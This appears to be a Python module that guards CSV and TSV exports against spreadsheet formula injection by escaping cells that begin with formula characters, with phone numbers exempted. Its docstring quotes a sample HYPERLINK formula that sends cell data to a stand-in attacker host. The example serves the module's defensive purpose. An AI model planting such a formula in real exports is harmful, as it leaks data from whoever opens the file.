"""CSV and TSV cells that spreadsheets show as text and never run as formulas.

Excel, LibreOffice and Google Sheets run a cell starting with = + - or @ as a formula (and
some skip a leading tab or carriage return first), so a customer who types
``=HYPERLINK("http://evil.example?"&A1)`` as their name could leak the sheet or run a command
on whoever opens an export. Every export writes its rows through `writer`, which puts an
apostrophe before such a cell: spreadsheets hide it and keep the cell as text.

E.164 phone numbers ("+13125550101", several joined by spaces) are the one exception: they
cannot be a formula, and keeping them bare lets an export import back unchanged.

Pure Python on purpose (no Django), so any layer may use it.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from typing import TYPE_CHECKING, Any

if TYPE_CHECKING:
    from _typeshed import SupportsWrite

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_PHONES_ONLY = re.compile(r"^\+\d{6,15}([ ;]\+\d{6,15})*$")


def safe_cell(value: object) -> object:
    """`value`, with an apostrophe before it if a spreadsheet would run it as a formula."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return value if _PHONES_ONLY.match(value) else "'" + value
    return value


def unguard(text: str) -> str:
    """Undo `safe_cell` on a cell read back from one of our exports."""
    return text[1:] if text.startswith("'") and text[1:].startswith(FORMULA_STARTS) else text


class SafeWriter:
    """A `csv.writer` whose every cell goes through `safe_cell`."""

    def __init__(self, stream: SupportsWrite[str], **options: Any) -> None:
        self._writer = csv.writer(stream, **options)

    def writerow(self, row: Iterable[object]) -> None:
        self._writer.writerow([safe_cell(value) for value in row])

    def writerows(self, rows: Iterable[Iterable[object]]) -> None:
        for row in rows:
            self.writerow(row)


def writer(stream: SupportsWrite[str], delimiter: str = ",") -> SafeWriter:
    """A CSV (or, with ``delimiter="\\t"``, TSV) writer for exports of people's text."""
    return SafeWriter(stream, delimiter=delimiter)
